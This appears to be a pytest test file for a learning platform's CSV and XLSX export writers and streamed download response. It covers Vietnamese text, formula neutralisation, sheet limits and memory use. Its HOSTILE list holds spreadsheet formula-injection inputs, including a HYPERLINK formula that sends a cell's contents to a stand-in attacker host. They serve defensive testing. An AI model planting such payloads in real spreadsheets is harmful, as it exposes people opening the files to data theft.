"""The export writers (learning.spreadsheet) and the download response (learning.downloads):
files read back as HR's programs read them, formulas neutralised, memory flat with the rows."""

from __future__ import annotations

import csv
import gc
import io
import tempfile
import tracemalloc
import zipfile
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from urllib.parse import unquote

import openpyxl
import pytest

from learning import spreadsheet
from learning.downloads import (
    ascii_filename,
    content_disposition,
    download_response,
    export_format,
)
from learning.spreadsheet import Column, clean_sheet_title, iter_csv, iter_xlsx

COLUMNS = [
    Column("name", "Họ và tên"),
    Column("staff_number", "Mã cán bộ"),
    Column("lessons", "Số bài", "int"),
    Column("score", "Điểm", "decimal"),
    Column("rate", "Tỷ lệ hoàn thành", "percent"),
    Column("completed_on", "Ngày hoàn thành", "date"),
    Column("signed_in_at", "Đăng nhập lúc", "datetime"),
]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1", "-2", "@x",
           "\tTab", "\rCR"]
ROWS = [
    ("Nguyễn Thị Hương", "CB-001", 12, Decimal("8.50"), 0.875, date(2026, 11, 5),
     datetime(2026, 11, 5, 14, 30, 5)),
    (HOSTILE[0], HOSTILE[1], -3, -2.5, 0.0, datetime(2026, 1, 2, 23, 59), None),
    (HOSTILE[2], HOSTILE[3], 0, None, None, None, None),
    (HOSTILE[4], HOSTILE[5], None, 1e-05, 1, None, None),
    ("Trần\x01 Văn\x0b Đức", None, 7, Decimal("100"), 0.5, None, None),
]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


# --- CSV -------------------------------------------------------------------------------------

def test_csv_reads_back_with_the_bom_vietnamese_text_iso_dates_and_plain_numbers():
    rows = read_csv(b"".join(iter_csv(COLUMNS, ROWS)))
    assert rows[0] == [str(c.title) for c in COLUMNS]
    assert rows[1] == ["Nguyễn Thị Hương", "CB-001", "12", "8.50", "0.875", "2026-11-05",
                       "2026-11-05 14:30:05"]
    # a datetime in a date column is its day; numbers keep their sign and no exponent
    assert rows[2][2:6] == ["-3", "-2.5", "0.0", "2026-01-02"]
    assert rows[4][3] == "0.00001"
    assert rows[3][2:] == ["0", "", "", "", ""]  # None is an empty cell
    assert rows[5][0] == "Trần Văn Đức"  # control characters dropped
    assert len(rows) == 1 + len(ROWS)


def test_csv_neutralises_formula_text_but_not_numbers():
    rows = read_csv(b"".join(iter_csv(COLUMNS, ROWS)))
    texts = [cell for row in rows[2:5] for cell in row[:2]]
    assert texts == ["'" + value for value in HOSTILE]
    assert rows[2][2] == "-3"  # a negative number stays a number
    for row in rows:
        assert not any(cell.startswith(spreadsheet.FORMULA_STARTS) and not _number(cell)
                       for cell in row), row


@pytest.mark.parametrize("value", [" =1+1", "  +84 912", "\u00a0@SUM(A1)", " \t=cmd"])
def test_formula_text_after_leading_spaces_is_neutralised_too(value):
    """Some programs trim a cell before reading it: the rule looks past leading spaces."""
    assert spreadsheet.safe_cell(value) == "'" + value
    assert spreadsheet.safe_cell(" Nguyễn = Văn") == " Nguyễn = Văn"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_comes_in_chunks_of_many_rows_with_the_bom_first():
    rows = ((f"Cán bộ {n}", f"CB-{n}", n, None, None, None, None) for n in range(20_000))
    chunks = list(iter_csv(COLUMNS, rows))
    assert chunks[0].startswith(b"\xef\xbb\xbf" + "Họ và tên".encode())
    assert 5 < len(chunks) < 100  # neither one chunk per row nor everything at once
    assert all(len(chunk) < 2 * spreadsheet.CHUNK_BYTES for chunk in chunks)
    assert len(read_csv(b"".join(chunks))) == 20_001


def test_a_row_of_the_wrong_length_is_refused():
    with pytest.raises(ValueError):
        b"".join(iter_csv(COLUMNS, [("only a name",)]))


def test_an_unknown_column_kind_is_refused():
    with pytest.raises(ValueError):
        Column("x", "X", "money")


# --- XLSX ------------------------------------------------------------------------------------

def test_xlsx_has_real_dates_numbers_and_percentages():
    sheet = read_xlsx(b"".join(iter_xlsx(COLUMNS, ROWS, sheet_title="Cán bộ"))).active
    assert sheet.title == "Cán bộ"
    assert [c.value for c in sheet[1]] == [str(c.title) for c in COLUMNS]
    name, staff, lessons, score, rate, day, moment = sheet[2]
    assert name.value == "Nguyễn Thị Hương" and name.data_type == "s"
    assert lessons.value == 12 and lessons.data_type == "n"
    assert score.value == 8.5 and score.number_format == "0.00"
    assert rate.value == 0.875 and "%" in rate.number_format
    assert day.is_date and day.value == datetime(2026, 11, 5)
    assert day.number_format == "dd/mm/yyyy"
    assert moment.is_date and moment.value == datetime(2026, 11, 5, 14, 30, 5)
    assert sheet.cell(3, 3).value == -3 and sheet.cell(3, 3).data_type == "n"
    assert sheet.cell(3, 6).value == datetime(2026, 1, 2)  # the day of a datetime
    assert sheet.cell(4, 4).value is None
    assert sheet.cell(6, 1).value == "Trần Văn Đức"


def test_xlsx_neutralises_formula_text():
    sheet = read_xlsx(b"".join(iter_xlsx(COLUMNS, ROWS))).active
    texts = [sheet.cell(row, column).value for row in (3, 4, 5) for column in (1, 2)]
    assert texts == ["'" + value for value in HOSTILE]
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_xlsx_header_is_bold_frozen_and_filtered_with_widths():
    workbook = read_xlsx(b"".join(iter_xlsx(COLUMNS, ROWS)))
    sheet = workbook.active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:G{len(ROWS) + 1}"
    assert all(cell.font.b for cell in sheet[1])
    assert not sheet["A2"].font.b
    assert sheet.column_dimensions["A"].width >= 20
    assert sheet.column_dimensions["C"].width >= 10


def test_two_columns_of_one_kind_keep_their_own_values():
    columns = [Column("a", "A", "date"), Column("b", "B", "date"), Column("c", "C", "int"),
               Column("d", "D", "int")]
    rows = [(date(2026, 1, n), date(2026, 2, n), n, 10 * n) for n in range(1, 4)]
    sheet = read_xlsx(b"".join(iter_xlsx(columns, rows))).active
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        [datetime(2026, 1, n), datetime(2026, 2, n), n, 10 * n] for n in range(1, 4)]


def test_xlsx_keeps_the_wall_time_of_an_aware_datetime():
    moment = datetime(2026, 11, 5, 9, 0, tzinfo=timezone(timedelta(hours=7)))
    sheet = read_xlsx(b"".join(iter_xlsx([Column("t", "T", "datetime")], [(moment,)]))).active
    assert sheet["A2"].value == datetime(2026, 11, 5, 9, 0)
    assert b"2026-11-05 09:00:00+07:00" in b"".join(iter_csv([Column("t", "T", "datetime")],
                                                             [(moment,)]))


@pytest.mark.parametrize("title, shown", [
    ("Cán bộ", "Cán bộ"),
    ("Chứng chỉ: [2026] / Hà Nội?", "Chứng chỉ- -2026- - Hà Nội-"),
    ("Danh sách cán bộ của Cục Lãnh sự năm 2026", "Danh sách cán bộ của Cục Lãnh"),
    ("'Trích'", "Trích"),
    ("", "Sheet1"),
    ("History", "Sheet1"),
    ("[]", "--"),
])
def test_sheet_titles_keep_to_excels_rules(title, shown):
    assert clean_sheet_title(title) == shown
    assert len(clean_sheet_title(title)) <= 31


def test_rows_beyond_a_sheets_limit_go_on_to_the_next_sheet(monkeypatch):
    monkeypatch.setattr(spreadsheet, "XLSX_MAX_ROWS", 4)  # a header and 3 rows a sheet
    rows = [(f"Cán bộ {n}", n) for n in range(7)]
    workbook = read_xlsx(b"".join(iter_xlsx([Column("n", "Tên"), Column("i", "Số", "int")],
                                            rows, sheet_title="Cán bộ")))
    assert workbook.sheetnames == ["Cán bộ", "Cán bộ (2)", "Cán bộ (3)"]
    assert [ws.auto_filter.ref for ws in workbook] == ["A1:B4", "A1:B4", "A1:B2"]
    values = [ws.cell(r, 2).value for ws in workbook for r in range(2, ws.max_row + 1)]
    assert values == list(range(7))
    assert all(ws["A1"].value == "Tên" and ws.freeze_panes == "A2" for ws in workbook)


def test_xlsx_leaves_no_temporary_file(monkeypatch, tmp_path):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    chunks = iter_xlsx(COLUMNS, ROWS)
    first = next(chunks)
    assert list(tmp_path.iterdir()) == []  # unlinked while still being read
    data = first + b"".join(chunks)
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None

    def failing():
        yield ROWS[0]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        b"".join(iter_xlsx(COLUMNS, failing()))
    assert list(tmp_path.iterdir()) == []


# --- memory ----------------------------------------------------------------------------------

def _rows(count: int):
    day = date(2026, 1, 1)
    for n in range(count):
        yield (f"Nguyễn Văn {n}", f"CB-{n:06d}", n, n / 7, (n % 100) / 100,
               day + timedelta(days=n % 365), datetime(2026, 1, 1, 8) + timedelta(minutes=n))


def _peak(writer, count: int) -> int:
    gc.collect()
    tracemalloc.reset_peak()
    size = 0
    for chunk in writer(COLUMNS, _rows(count)):
        size += len(chunk)
    assert size > count * 20
    return tracemalloc.get_traced_memory()[1]


@pytest.mark.memory
@pytest.mark.parametrize("writer", [iter_csv, iter_xlsx], ids=["csv", "xlsx"])
def test_100000_rows_export_in_constant_memory(writer):
    b"".join(writer(COLUMNS, _rows(100)))  # imports and first-use caches
    tracemalloc.start()
    try:
        small = _peak(writer, 10_000)
        large = _peak(writer, 100_000)
    finally:
        tracemalloc.stop()
    assert large < 1.5 * small + 256 * 1024, (
        f"peak {large / 1e6:.1f} MB for 100,000 rows, {small / 1e6:.1f} MB for 10,000")


# --- the download response -------------------------------------------------------------------

def test_export_format_reads_only_csv_and_xlsx():
    assert export_format({"format": "csv"}) == "csv"
    assert export_format({"format": "xlsx"}) == "xlsx"
    assert export_format({"format": "pdf"}) is None
    assert export_format({}) is None


def test_filenames_fall_back_to_ascii_and_carry_the_vietnamese_name():
    assert ascii_filename("Cán bộ đợt 1 — Hà Nội.xlsx") == "Can bo dot 1 Ha Noi.xlsx"
    assert ascii_filename("Cán bộ\"; x=.csv") == "Can bo_ x_.csv"
    assert ascii_filename("사용자") == "export"
    header = content_disposition("Chứng chỉ 2026-12-02.csv")
    assert header.startswith('attachment; filename="Chung chi 2026-12-02.csv"; ')
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert encoded.isascii() and " " not in encoded and '"' not in encoded
    assert unquote(encoded) == "Chứng chỉ 2026-12-02.csv"
    assert content_disposition("사용자.csv").startswith('attachment; filename="export.csv"')


@pytest.mark.parametrize("fmt, mimetype", [
    ("csv", "text/csv; charset=utf-8"),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
])
def test_the_download_streams_with_its_headers(app, fmt, mimetype):
    produced = []

    def rows():
        for row in ROWS:
            produced.append(row)
            yield row

    with app.test_request_context("/"):
        response = download_response(COLUMNS, rows(), fmt, "Cán bộ Cục Lãnh sự")
    assert response.is_streamed
    assert response.content_type == mimetype
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert f'filename="Can bo Cuc Lanh su.{fmt}"' in disposition
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == f"Cán bộ Cục Lãnh sự.{fmt}"
    data = b"".join(response.response)
    response.close()
    assert len(produced) == len(ROWS)
    if fmt == "csv":
        assert read_csv(data)[1][0] == "Nguyễn Thị Hương"
    else:
        assert read_xlsx(data)["Cán bộ Cục Lãnh sự"]["A2"].value == "Nguyễn Thị Hương"


def test_the_download_refuses_an_unknown_format(app):
    with app.test_request_context("/"), pytest.raises(ValueError):
        download_response(COLUMNS, [], "pdf", "x")
